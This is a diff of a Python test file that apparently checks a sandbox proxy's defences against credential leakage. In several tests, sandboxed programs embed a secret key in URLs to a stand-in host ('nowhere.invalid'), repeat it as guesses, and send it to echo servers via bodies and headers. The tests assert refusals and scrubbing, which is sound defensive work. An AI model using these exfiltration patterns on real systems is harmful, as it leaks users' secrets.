@@ -260,9 +260,7 @@ async def test_under_a_coding_the_key_is_found_and_under_one_that_is_unknown_not
     assert not saw["not-what-it-says"].endswith(b"0\r\n\r\n")
 
 
-async def test_a_key_in_the_place_of_a_content_coding_is_written_down_nowhere(
-    world_of, api_at, authority, caplog
-):
+async def test_a_key_in_the_place_of_a_content_coding_is_written_down_nowhere(world_of, api_at, authority, caplog):
     """P19: it is quoted in the refusal, in the log and on standard error, and it was cut before it was scrubbed."""
     key = "sk-" + "k3y.4711/alpha+" * 8
     async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as far:
@@ -451,3 +449,86 @@ key = half("/first") + half("/second")
     assert len(alpha.at("/first")) == len(alpha.at("/second")) == len(endings)
     written = world.written()
     assert [part for form in (KEY, KEY.hex().encode()) for part in left(form, written, size=12)] == []
+
+
+async def test_a_url_with_a_secret_in_it_is_refused_like_any_other_where_it_would_be_refused_anyway(world, alpha):
+    """Not an oracle: a host that exists nowhere told of thirteen requests which of 13,000 guesses was the password."""
+    port = alpha.place.port
+    program = f"""
+    import http.client
+    answers = []
+    for text in ("n0-s3cret-at-all-4711", KEY):
+        text = text.replace("/", "%2F").replace("+", "%2B").replace("=", "%3D")
+        for target in (
+            f"http://nowhere.invalid/?q={{text}}", f"http://nowhere.invalid/{{text}}", f"http://alpha.test:{port}/{{text}}",
+            f"http://alpha.test:1/{{text}}",
+        ):
+            connection = http.client.HTTPConnection("127.0.0.2", 3128)
+            connection.request("GET", target)
+            answer = connection.getresponse()
+            answers.append((answer.status, answer.read().decode().replace(text, "GUESS")))
+    answers
+    """
+    result = await world.run("python", f"KEY = {SECRET!r}\n" + textwrap.dedent(program))
+    assert result.value[:4] == result.value[4:]
+    assert {status for status, _ in result.value} == {403}
+    refused = world.records("fetch.denied", result.run_id)
+    codes = {record.fields["code"] for record in refused}
+    assert codes == {"host_not_granted", "plain_http_not_granted"}
+    assert left(KEY, world.written(), 12) == []
+
+
+async def test_a_run_that_goes_on_putting_secrets_into_urls_makes_no_more_requests(world, alpha):
+    """Each refusal tells that one guess is right: after three there is nothing more to learn."""
+    alpha.answers = {}
+    alpha.forget()
+    program = f"""
+    place, port = "alpha.test:{alpha.place.port}", {alpha.place.port}
+    def code(path):
+        return code_of(tried(lambda: asked(direct("alpha.test", port), request(place, path))))
+    [code("/?a=" + text) for text in ("right", KEY, KEY.lower(), "wrong", KEY.upper(), "wrong", KEY)]
+    """
+    result = await world.run("python", PRELUDE + f"KEY = {SECRET.replace('/', '%2F')!r}\n" + textwrap.dedent(program))
+    guessed = "403 secret_in_url"
+    assert result.value == ["200", guessed, guessed, "200", guessed, "403 too_many_secrets", "403 too_many_secrets"]
+    codes = [record.fields["code"] for record in world.records("fetch.denied", result.run_id)]
+    assert codes == ["secret_in_url"] * 3 + ["too_many_secrets"]
+    assert left(KEY, world.written(), 12) == []
+    assert left(KEY, result.model_dump_json().encode(), 12) == []
+
+
+async def test_what_a_program_has_sent_where_no_credential_goes_comes_back_as_it_was(
+    world_of, api_at, alpha, authority
+):
+    """An echo told at once which of 18,200 guesses is a secret. From where a credential goes all is scrubbed."""
+
+    def echo(heard: Heard) -> bytes:
+        return whole(heard.body + b"|" + b"".join(heard.values("x-guess")))
+
+    async with hostile(authority.server("beta.test", protocols=("http/1.1",))) as beta:
+        beta.answers = {"/echo": echo, "/stored": lambda _: whole(KEY)}
+        alpha.answers = {"/echo": echo}
+        beta_api = api_at(beta.place.port, name="beta.test", auth=[])
+        async with world_of(api={"alpha": api_at(alpha.place.port), "beta": beta_api}, policy=LIMITS) as opened:
+            program = f"""
+            import json, urllib.request
+            def say(host, port, path, body=None, **headers):
+                asked = urllib.request.Request(f"https://{{host}}:{{port}}{{path}}", body, headers)
+                return urllib.request.urlopen(asked).read().hex()
+            alpha, beta = ("alpha.test", {alpha.place.port}), ("beta.test", {beta.place.port})
+            guesses = b"guess-4711 " * 20000 + KEY + b" guess-4712"
+            say(*alpha, "/first")
+            seen = [say(*beta, "/stored"), say(*beta, "/echo", guesses)]
+            seen += [say(*beta, "/echo", b"", **{{"X-Guess": KEY.decode()}})]
+            seen += [say(*beta, "/stored"), say(*alpha, "/echo", guesses)]
+            masked_all = [bytes(byte ^ 0x5A for byte in bytes.fromhex(one)).hex() for one in seen]
+            [masked_all[0], masked_all[1][-200:], *masked_all[2:4], masked_all[4][-200:]]
+            """
+            told = await opened.value("python", f"KEY = {KEY!r}\n" + textwrap.dedent(program))
+            stored, echoed, in_header, again, credentialed = map(unmasked, told)
+            assert stored == MARK, "before it has sent it, nobody tells it"
+            assert KEY + b" guess-4712|" in echoed
+            assert in_header == b"|" + KEY
+            assert again == KEY, "it has sent that itself"
+            assert KEY not in credentialed
+            assert MARK in credentialed
